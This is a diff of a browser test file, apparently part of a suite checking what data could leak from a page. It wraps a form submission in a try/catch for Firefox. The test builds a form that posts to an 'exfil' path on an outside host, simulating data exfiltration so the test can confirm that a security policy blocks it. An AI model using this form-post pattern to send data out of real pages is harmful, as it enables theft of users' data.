@@ -243,7 +243,11 @@ describe(`what could leak, in ${browserName}`, () => {
       const action = `https://${host}/exfil/form`;
       const form = Object.assign(document.createElement('form'), { action, method: 'post', target: '_self' });
       document.body.append(form);
-      form.submit();
+      try {
+        form.submit();
+      } catch {
+        // Firefox says so where the policy forbids it.
+      }
       return 1;
     };
     const host = 'exfil.nexudus.site';
